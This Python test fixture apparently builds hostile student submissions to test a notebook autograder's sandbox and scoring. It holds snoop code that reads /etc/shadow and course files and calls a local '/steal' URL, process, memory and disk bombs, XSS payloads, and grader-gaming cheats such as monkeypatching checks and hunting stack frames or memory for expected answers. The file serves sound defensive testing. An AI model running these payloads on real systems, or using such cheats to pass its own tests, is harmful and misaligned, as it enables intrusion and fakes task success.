"""A hostile week-1 cohort: everything students hand in that could break a grader.

Each entry is (submission, expectation): the submission is a notebook or raw
bytes; the expectation says how it must come out of grading.
"""
import json
from dataclasses import dataclass

import nbformat

from course.instructor.cohort import build_submission


@dataclass
class Expect:
    status: str = "graded"            # or "failed"
    full_marks: bool = False          # every test passes
    zero: tuple = ()                  # exercises (or "*" for all) that must score 0
    notes: tuple = ()                 # words that must appear in the outcome's notes
    full: tuple = ()                  # exercises that must keep full marks
    timed: bool = False               # cut by a wall-clock limit: only `full` and `zero` are fixed
    zero_cells: tuple = ()            # test cells (grade ids) that must score 0
    absent: tuple = ()                # words that must not appear in the outcome's notes


def _cell(notebook, grade_id):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _prepend(notebook, grade_id, code):
    cell = _cell(notebook, grade_id)
    cell.source = code + "\n" + cell.source
    return notebook


def _append(notebook, grade_id, code):
    cell = _cell(notebook, grade_id)
    cell.source = cell.source + "\n" + code
    return notebook


def _calling(hook):
    """Code that makes sigmoid call ``hook()`` first (while its tests run in the grader)."""
    return f"_real_sigmoid = sigmoid\n\ndef sigmoid(z):\n    {hook}()\n    return _real_sigmoid(z)"


def hostile_cohort(course, week="week1", port=0, token="t", notebook_timeout=40, cell_timeout=15):
    """The cohort, for a course graded with the given time limits; ``port`` is a server on the
    host's 127.0.0.1 that no submission may reach, ``token`` marks the files they try to write."""
    reference = lambda: build_submission(course, week)           # noqa: E731
    blank = lambda: build_submission(course, week, filled=False)  # noqa: E731
    cohort = {}

    cohort["correct"] = (reference(), Expect(full_marks=True))
    cohort["blank"] = (blank(), Expect(zero=("*",)))

    # endless loops: one that an interrupt stops, one that swallows the interrupt (it waits instead
    # of spinning: the grader sees the same kernel that never answers, without a core burnt for it)
    cohort["loop-forever"] = (_prepend(reference(), "sigmoid", "while True:\n    pass"),
                              Expect(zero=("sigmoid",), full=("propagate", "optimize", "model"),
                                     notes=("time limit",)))
    cohort["loop-ignores-interrupt"] = (
        _prepend(reference(), "propagate",
                 "import time\nwhile True:\n    try:\n        while True:\n            time.sleep(0.05)\n"
                 "    except BaseException:\n        pass"),
        Expect(zero=("propagate", "optimize", "predict", "model"), full=("sigmoid", "initialize_with_zeros"),
               notes=("time limit", "not run")))

    # the kernel ends: os._exit, and a SIGKILL of its own process
    cohort["os-exit"] = (_prepend(reference(), "propagate", "import os\nos._exit(1)"),
                         Expect(zero=("propagate", "optimize", "model"), full=("sigmoid", "single_neuron_step"),
                                notes=("kernel died",)))
    cohort["kernel-killed"] = (
        _prepend(reference(), "optimize", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        Expect(zero=("optimize", "predict", "model"), full=("sigmoid", "propagate"), notes=("kernel died",)))

    # memory: a list that grows until the kernel's memory limit stops it
    cohort["memory-bomb"] = (
        _prepend(reference(), "predict", "hoard = []\nwhile True:\n    hoard.append(np.ones(10_000_000))"),
        Expect(zero=("predict",), full=("sigmoid", "propagate", "optimize")))

    cohort["syntax-error"] = (_prepend(reference(), "optimize", "def broken(:\n    pass"),
                              Expect(zero=("optimize",), full=("propagate", "predict", "model")))

    # warnings in a student's cell are harmless: printed, never a lost point
    cohort["warns-but-correct"] = (
        _prepend(reference(), "predict",
                 "import warnings\nwarnings.warn('just a note')\nprint(np.exp(np.array([1000.0])))"),
        Expect(full_marks=True))

    # tests removed or defused, with wrong code behind them
    deleted = blank()
    deleted.cells = [c for c in deleted.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_sigmoid", "test_sigmoid_hidden")]
    cohort["deleted-tests"] = (deleted, Expect(zero=("*",)))
    defused = blank()
    for grade_id in ("test_sigmoid", "test_sigmoid_hidden", "test_propagate"):
        _cell(defused, grade_id).source = "pass"
    cohort["tampered-tests"] = (defused, Expect(zero=("*",)))
    metadata = blank()
    _cell(metadata, "test_sigmoid").metadata["nbgrader"]["points"] = 100.0
    _cell(metadata, "test_propagate").metadata["nbgrader"]["grade"] = False
    _cell(metadata, "test_optimize").metadata["nbgrader"]["grade_id"] = "extra_credit"
    cohort["tampered-metadata"] = (metadata, Expect(zero=("*",)))

    # patching the checks so that every test passes
    monkeypatched = blank()
    _cell(monkeypatched, "sigmoid").source = (
        "import numpy as np\nimport course.checks\n"
        "np.allclose = lambda *args, **kwargs: True\n"
        "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "for name in dir(course.checks):\n"
        "    if name.startswith('check') or name == 'call':\n"
        "        try:\n"
        "            setattr(course.checks, name, lambda *args, **kwargs: None)\n"
        "        except AttributeError:\n"
        "            pass\n"
        "def sigmoid(z):\n    return z")
    cohort["monkeypatch"] = (monkeypatched, Expect(zero=("*",), notes=("for review",)))

    # files that are not notebooks
    cohort["broken-json"] = (b'{"cells": [', Expect(status="failed", zero=("*",), notes=("not a readable notebook",)))
    cohort["empty-file"] = (b"", Expect(status="failed", zero=("*",), notes=("empty",)))

    # harmless but unusual: a correct notebook under another name, and a huge output
    cohort["wrong-name"] = (reference(), Expect(full_marks=True, notes=("graded",)))
    huge = _prepend(reference(), "sigmoid", "print('spam ' * 4_000_000)")
    cohort["huge-output"] = (huge, Expect(full_marks=True))
    sloppy = reference()
    sloppy.cells[3]["id"] = sloppy.cells[2]["id"]            # duplicate cell ids, as a bad merge leaves
    sloppy.metadata["kernelspec"] = {"name": "python3.12", "display_name": "Python 3.12", "language": "python"}
    cohort["sloppy-format"] = (json.dumps(sloppy).encode(), Expect(full_marks=True, notes=("repaired",)))
    # the sandbox: reading the course, the network, writing outside, processes, disk, time
    cohort["snoop"] = (_prepend(reference(), "sigmoid", snoop_code(course.root, port, token, week)),
                       Expect(full_marks=True))
    cohort["process-flood"] = (_prepend(reference(), "sigmoid", FLOOD_CODE), Expect(full_marks=True))
    cohort["disk-fill"] = (_prepend(reference(), "sigmoid", DISK_FILL_CODE), Expect())
    cohort["sleeps-past-the-deadline"] = (
        sleeper(reference(), cell_timeout - 3),
        Expect(full=("sigmoid", "single_neuron_step"), zero=("optimize", "predict", "model"),
               notes=("total time limit",), timed=True))
    # test cells moved so that optimize is tested before propagate; optimize keeps the reference
    # propagate it is given, for propagate to use later: the tests run in the source's order, and a
    # handle is valid only during its call, so propagate gets nothing (optimize itself is correct)
    stash = reference()
    _cell(stash, "optimize").source = ("import numpy\n" + _cell(stash, "optimize").source.replace(
        "    costs = []", "    numpy.stashed_propagate = propagate\n    costs = []", 1))
    _cell(stash, "propagate").source = ("def propagate(w, b, X, Y):\n    import numpy\n"
                                        "    return numpy.stashed_propagate(w, b, X, Y)")
    moved = [c for c in stash.cells if c.metadata.get("nbgrader", {}).get("grade_id") in
             ("test_propagate", "test_propagate_hidden")]
    stash.cells = [c for c in stash.cells if c not in moved]
    after = stash.cells.index(_cell(stash, "test_optimize_hidden"))
    stash.cells[after + 1:after + 1] = moved
    cohort["stash-a-reference"] = (stash, Expect(zero=("propagate",),
                                                 full=("sigmoid", "initialize_with_zeros", "optimize", "predict")))

    # the same stash, with propagate's nbgrader metadata deleted (so that no cell says which exercise
    # test_propagate_hidden belongs to) and that hidden test moved after optimize's tests: optimize
    # is correct and keeps its points; propagate gets nothing from the handle optimize was given
    renamed = reference()
    _cell(renamed, "optimize").source = ("import numpy\n" + _cell(renamed, "optimize").source.replace(
        "    costs = []", "    numpy.stashed_propagate = propagate\n    costs = []", 1))
    solution = _cell(renamed, "propagate")
    solution.source = ("def propagate(w, b, X, Y):\n    import numpy\n"
                       "    return numpy.stashed_propagate(w, b, X, Y)")
    del solution.metadata["nbgrader"]
    hidden = _cell(renamed, "test_propagate_hidden")
    renamed.cells.remove(hidden)
    renamed.cells.insert(renamed.cells.index(_cell(renamed, "test_optimize")) + 1, hidden)
    cohort["hidden-test-moved-and-unnamed"] = (renamed, Expect(
        zero=("propagate",), full=("sigmoid", "initialize_with_zeros", "optimize", "predict", "model")))

    # a hook on compile() that prints whatever the grader compiles in the kernel, and every call's
    # arguments: the kernel never sees any of the grader's code, only the arguments of the call
    cohort["compile-hook"] = (_prepend(reference(), "sigmoid", COMPILE_HOOK_CODE), Expect(full_marks=True))
    # every process of a notebook shares one memory limit (a cgroup where the machine has one)
    # (which process the kernel's cgroup gives up first, and when, depends on the machine's load)
    cohort["forked-hoarders"] = (_prepend(reference(), "predict", FORKED_HOARDERS_CODE), Expect(
        full=("sigmoid", "initialize_with_zeros", "propagate", "optimize"), timed=True))
    # big outputs while a test runs: capped like any other output
    cohort["displays-while-graded"] = (
        _append(_prepend(reference(), "sigmoid", DISPLAY_FLOOD_CODE), "sigmoid", _calling("_announce")),
        Expect(full_marks=True))
    # marker-like text of the student's own, and active HTML: shown as text, never run
    markers = reference()
    markers.cells.insert(3, nbformat.v4.new_code_cell("# " + "BEGIN " + "HIDDEN TESTS\nprint('BEGIN ' + 'HIDDEN TESTS')"))
    markers.cells.insert(2, nbformat.v4.new_markdown_cell(
        f"Notes <script>document.title = 'pwned-{token}'</script><img src=x onerror=\"document.title='pwned-{token}'\">"))
    _append(_prepend(markers, "sigmoid", ACTIVE_HTML_CODE.replace("TOKEN", token)), "sigmoid", _calling("_show_once"))
    exploration = next(c for c in markers.cells if c.cell_type == "code" and not c.metadata.get("nbgrader")
                       and "show_images" in c.source)
    exploration.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": f"<script>document.title = 'pwned-{token}'</script>", "text/plain": "x"})]
    cohort["markers-and-scripts"] = (markers, Expect(full_marks=True))
    # an unchanged exploration handed in with a forged error output, and escape codes in code the
    # review quotes: neither becomes a note, nor reaches the instructor's terminal raw
    forged = reference()
    exploration = next(c for c in forged.cells if c.cell_type == "code" and not c.metadata.get("nbgrader")
                       and "show_images" in c.source)
    exploration.outputs = [nbformat.v4.new_output("error", ename="NotRun", evalue="This cell was not run: the kernel "
                                                  "of r-correct was lost.", traceback=[])]
    forged.metadata["course"] = {"review": ["forged: graded 0/22"]}
    _prepend(forged, "sigmoid", "import os  # \x1b[2Kgraded 0/22\x07")
    cohort["forged-notes"] = (forged, Expect(full_marks=True, notes=("for review",),
                                             absent=("not run", "lost", "forged: graded", "\x1b", "\x07")))
    # what tells grading from practice: nothing in the environment, processes or paths says so
    cohort["looks-for-the-grader"] = (_prepend(reference(), "sigmoid", TELLTALE_CODE), Expect(full_marks=True))
    return cohort


def write_cohort(course, week, cohort):
    """Hand the cohort in; 'wrong-name' is saved under a different file name."""
    name = course.notebook_name(week)
    for student, (content, _) in cohort.items():
        folder = course.submitted / student / week
        folder.mkdir(parents=True, exist_ok=True)
        target = folder / (f"{name} (1).ipynb" if student == "wrong-name" else f"{name}.ipynb")
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            nbformat.write(content, target)


# ---------------------------------------------------------------- cheats of every week
# Each replaces one graded function by code that tries to get the answer from the grader
# instead of computing it. The tests run outside the sandboxed kernel, so every one must
# score 0 on every test of its exercise, and keep the points of the other exercises.

def cheat_target(course, week):
    """The exercise a week's cheats attack: CHEAT_TARGET of variants/<week>.py, or else the
    exercise whose tests carry the most points (the first of them in the notebook)."""
    from course.instructor.cohort import variants_module
    from course.validation import exercise_of
    chosen = getattr(variants_module(course, week), "CHEAT_TARGET", None)
    if chosen:
        return chosen
    cells = nbformat.read(course.source_notebook(week), as_version=4).cells
    graded = [c.metadata.get("nbgrader", {}) for c in cells]
    functions = [g["grade_id"] for g in graded if g.get("solution") and g.get("grade_id")]
    points = {}
    for g in graded:
        if g.get("grade") and not g.get("solution"):
            exercise = exercise_of(g["grade_id"], functions)
            points[exercise] = points.get(exercise, 0) + g.get("points", 0)
    return max(points, key=points.get)      # max keeps the first of equals

_SEARCH = '''
    def _found(scope):
        for _key, _value in list(scope.items()):
            if "expected" in str(_key).lower() or str(_key).startswith(("_e", "_ref")):
                return _value
            if callable(_value) and getattr(_value, "__name__", "") == "{name}" and _value is not {name}:
                return _value(*args, **kwargs)
        return None
'''


def cheat_variants(week, course=None):
    """Variant-like (name, exercise, description, code) cheats against the week's functions."""
    from conftest import ROOT
    from course.instructor.cohort import Variant
    from course.instructor.layout import Course
    cheats = []
    for name in (cheat_target(course or Course(ROOT), week),):
        cheats += [
            Variant(f"cheat-{name}-asks-the-grader", name, "hands the call to the grader's reference functions",
                    replace={name: f'''def {name}(*args, **kwargs):
    from course.instructor.hidden_tests import reference
    return getattr(reference("{week}"), "{name}")(*args, **kwargs)'''}),
            Variant(f"cheat-{name}-old-grading-module", name, "hands the call to course.grading.reference",
                    replace={name: f'''def {name}(*args, **kwargs):
    from course.grading import reference
    return getattr(reference("{week}"), "{name}")(*args, **kwargs)'''}),
            Variant(f"cheat-{name}-walks-frames", name, "returns the expected value found in the caller's frames",
                    replace={name: f'''import sys

def {name}(*args, **kwargs):{_SEARCH.format(name=name)}
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            found = _found(scope)
            if found is not None:
                return found
        frame = frame.f_back
    raise RuntimeError("no expected value in reach")'''}),
            Variant(f"cheat-{name}-walks-a-traceback", name, "raises, catches and walks the traceback's frames",
                    replace={name: f'''def {name}(*args, **kwargs):{_SEARCH.format(name=name)}
    try:
        raise ZeroDivisionError()
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        found = _found(frame.f_locals) or _found(frame.f_globals)
        if found is not None:
            return found
        frame = frame.f_back
    raise RuntimeError("no expected value in reach")'''}),
            Variant(f"cheat-{name}-searches-memory", name, "looks through every object in memory for a reference",
                    replace={name: f'''import gc, types

def {name}(*args, **kwargs):
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "{name}" and obj.__code__ is not {name}.__code__:
            return obj(*args, **kwargs)
        if isinstance(obj, dict) and any("expected" in str(key) for key in list(obj)[:50]):
            return next(value for key, value in obj.items() if "expected" in str(key))
    raise RuntimeError("no reference in memory")'''}),
        ]
    if week == "week3":
        # The mistake catalogue of the visible tests is one sign from the right gradients; a graded
        # kernel has no course.mistakes, so this works only in the student's own JupyterLab.
        cheats.append(Variant(
            "cheat-L_model_backward-from-the-mistake-catalogue", "L_model_backward",
            "negates the catalogue's 'dZ = Y - AL' gradients",
            replace={"L_model_backward": '''def L_model_backward(AL, Y, caches):
    from course.mistakes import gradient_mistakes
    parameters = {}
    for l, ((A_prev, W, b), Z) in enumerate(caches, 1):
        parameters[f"W{l}"], parameters[f"b{l}"] = W, b
    X = caches[0][0][0]
    wrong = gradient_mistakes(X, Y, parameters, "relu", "sigmoid")
    flipped = next(grads for label, grads in wrong.items() if label.startswith("dZ of the output layer as Y - AL"))
    return {key: -value for key, value in flipped.items()}'''}))
    return cheats + _week_cheats().get(week, [])


def _week_cheats():
    from course.instructor.cohort import Variant
    same_shuffle = "random_mini_batches(X, Y, batch_size, np.random.default_rng(seed))"
    return {
        # a training loop that reshuffles nothing, and hides its forward passes from the grader:
        # through a default argument, or by replacing the checks module in its kernel
        "week4": [
            Variant("cheat-train-forward-in-a-default", "train",
                    "one shuffle for every epoch; model_forward reached through a default argument",
                    edits={"train": [("Y_val=None, print_every=1):", "Y_val=None, print_every=1, "
                                      "forward=model_forward):"),
                                     ("random_mini_batches(X, Y, batch_size, rng)", same_shuffle),
                                     ("AL, caches = model_forward(X_batch, parameters)",
                                      "AL, caches = forward(X_batch, parameters)")]}),
            Variant("cheat-train-silences-the-spy", "train",
                    "one shuffle for every epoch; course.checks replaced by a module whose spy_on records nothing",
                    edits={"train": [("def train(", "import sys, types\n_fake = types.ModuleType('course.checks')\n"
                                      "_fake.__dict__.update(sys.modules['course.checks'].__dict__)\n"
                                      "_fake.spy_on = lambda function, name: (function, [])\n"
                                      "sys.modules['course.checks'] = _fake\n\ndef train("),
                                     ("random_mini_batches(X, Y, batch_size, rng)", same_shuffle)]}),
        ],
        # a network of 1.5 million hidden units: the grader never computes with it
        "week2": [
            Variant("cheat-nn_model-huge", "nn_model", "returns parameters of 1.5 million hidden units",
                    replace={"nn_model": '''def nn_model(X, Y, n_h, num_iterations=10000, learning_rate=1.2, seed=0, print_cost=False):
    n_h = 1_500_000
    parameters = {"W1": np.zeros((n_h, X.shape[0])), "b1": np.zeros((n_h, 1)),
                  "W2": np.zeros((Y.shape[0], n_h)), "b2": np.zeros((Y.shape[0], 1))}
    return parameters, [0.0] * (num_iterations // 100 + (num_iterations % 100 > 0))'''}),
        ],
    }


def snoop_code(course_root, port, token, week):
    """Code put at the top of a correct submission: read, fetch and write everything it can.
    Every attempt prints what it got, so anything that worked would show in the outputs."""
    targets = [f"{course_root}/source/{week}", f"{course_root}/gradebook.db", f"{course_root}/nbgrader_config.py",
               f"{course_root}/release/{week}", f"{course_root}/submitted", f"{course_root}/autograded",
               f"{course_root}/feedback", "/root", "/etc/shadow"]
    return f'''import glob, os, socket, urllib.request
for _path in {targets!r}:
    try:
        if os.path.isdir(_path):
            _seen = sorted(glob.glob(_path + "/**", recursive=True))[:20]
            print("LISTED", _path, _seen)
            for _file in _seen:
                if os.path.isfile(_file):
                    print("READ", _file, open(_file, "rb").read(300))
        else:
            print("READ", _path, open(_path, "rb").read(300))
    except Exception as _error:
        print("blocked:", _path, type(_error).__name__)
for _url in ["http://127.0.0.1:{port}/steal?token={token}", "http://localhost:{port}/steal?token={token}"]:
    try:
        print("FETCHED", urllib.request.urlopen(_url, timeout=2).read(100))
    except Exception as _error:
        print("network blocked:", type(_error).__name__)
for _target in ["/tmp/hostile-{token}", os.path.expanduser("~/hostile-{token}"), "/root/hostile-{token}",
                "{course_root}/hostile-{token}", "{course_root}/source/{week}/hostile-{token}"]:
    try:
        with open(_target, "w") as _handle:
            _handle.write("written by a submission")
        print("wrote (inside the sandbox only):", _target)
    except Exception as _error:
        print("write blocked:", _target, type(_error).__name__)
'''


# The flood stays up while the rest of the notebook is graded, but for a few children stopped before the
# count is printed: with no process to spare, the kernel may not get its output out (in one CI run of 14
# the count was missing from the graded notebook, which still got full marks).
# processes that sleep, started until the sandbox's process limit stops it (posix_spawn, not fork: a
# fork copies the kernel's page tables, and on a loaded machine 250 of them took 7 s of the cell's 10)
FLOOD_CODE = '''import os, signal
_pids = []
for _i in range(5000):
    try:
        _pids.append(os.posix_spawn("/bin/sleep", ["sleep", "120"], {}))
    except OSError:
        break
for _pid in _pids[-8:]:
    os.kill(_pid, signal.SIGKILL)
    os.waitpid(_pid, 0)
print("processes started before the limit:", len(_pids))
'''

DISK_FILL_CODE = '''_chunk = b"x" * (1 << 20)
for _folder in (".", "/tmp"):
    _written = 0
    try:
        with open(f"{_folder}/filler.bin", "wb") as _handle:
            for _i in range(100_000):
                _handle.write(_chunk)
                _written += 1
    except OSError as _error:
        print(f"{_folder}: stopped after {_written} MiB:", type(_error).__name__)
'''


def sleeper(notebook, seconds):
    """Every solution cell sleeps just under the per-cell limit, so only the notebook's total limit stops it."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = f"import time\ntime.sleep({seconds})\n" + cell.source
    return notebook


COMPILE_HOOK_CODE = """import typing
_builtins = typing.sys.modules["builtins"]
_compile = _builtins.compile
def _spy(source, *args, **kwargs):
    print("COMPILED:", source if isinstance(source, str) else type(source).__name__)
    return _compile(source, *args, **kwargs)
_builtins.compile = _spy
"""

FORKED_HOARDERS_CODE = """import os, signal, time
# eight children of 220 MB each, together past the notebook's limit, each well within the
# per-process limit (a child's address space is the kernel's, some 900 MB, and its own): each says
# when it holds its memory ("x"), or that its own address space ran out first ("m"), then waits.
# The kernel counts the children killed before all eight answered.
_ready_pipe, _ready_write = os.pipe()
_children = []
for _i in range(8):
    _pid = os.fork()
    if _pid == 0:
        try:
            with open("/proc/self/oom_score_adj", "w") as _adj:    # the children go first, not the kernel
                _adj.write("1000")
            try:
                _hoard = bytearray(220 << 20)
            except MemoryError:
                os.write(_ready_write, b"m")
            else:
                for _j in range(0, len(_hoard), 4096):
                    _hoard[_j] = 1
                os.write(_ready_write, b"x")
            time.sleep(30)
        finally:
            os._exit(0)
    _children.append(_pid)
os.close(_ready_write)
os.set_blocking(_ready_pipe, False)
_answers, _ended, _killed = b"", set(), 0
_deadline = time.monotonic() + 8
while len(_answers) + len(_ended) < 8 and time.monotonic() < _deadline:
    try:
        _answers += os.read(_ready_pipe, 16)
    except BlockingIOError:
        pass
    for _pid in _children:
        if _pid not in _ended:
            _done, _status = os.waitpid(_pid, os.WNOHANG)
            if _done:
                _ended.add(_pid)
                _killed += os.WIFSIGNALED(_status) and os.WTERMSIG(_status) == signal.SIGKILL
    time.sleep(0.05)
for _pid in _children:
    if _pid not in _ended:
        os.kill(_pid, signal.SIGTERM)
        os.waitpid(_pid, 0)
_size = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmSize"))
print("HOARDERS KILLED:", _killed, "| holding:", _answers.count(b"x"), "| own limit first:", _answers.count(b"m"),
      "| kernel's address space (kB):", _size)
"""

DISPLAY_FLOOD_CODE = """from IPython.display import display, HTML
_sigmoid_calls = [0]
def _announce():
    _sigmoid_calls[0] += 1
    if _sigmoid_calls[0] <= 50:
        display(HTML("<p>" + "x" * 2_000_000 + "</p>"))
"""

ACTIVE_HTML_CODE = """from IPython.display import display, HTML, Javascript
display(HTML("<script>document.title = 'pwned-TOKEN'</script><b onmouseover=\\"document.title='pwned-TOKEN'\\">hi</b>"))
display(Javascript("document.title = 'pwned-TOKEN'"))
_shown = [False]
def _show_once():
    if not _shown[0]:
        _shown[0] = True
        display(HTML("<script>document.title = 'pwned-TOKEN'</script>"))
"""

TELLTALE_CODE = """import os
_seen = [" ".join(sorted(os.environ)), " ".join(f"{k}={v}" for k, v in os.environ.items()), os.getcwd(),
         open("/proc/1/cmdline").read().replace(chr(0), " "), open("/proc/self/cmdline").read().replace(chr(0), " ")]
for _root, _dirs, _files in os.walk(os.path.expanduser("~")):
    _seen += [os.path.join(_root, _name) for _name in _dirs + _files]
_seen += os.listdir("/") + os.listdir("/run") if os.path.isdir("/run") else os.listdir("/")
# (the home folder holds the course's package, as a student's own does: "course" is looked for elsewhere)
_words = [w for w in ("course", "sandbox", "grade", "grading", "bwrap", "nbgrader", "COURSE_")
          if any(w.lower() in str(_s).lower() for _s in (_seen if w != "course" else _seen[:5]))]
print("TELLTALES:", _words)
"""
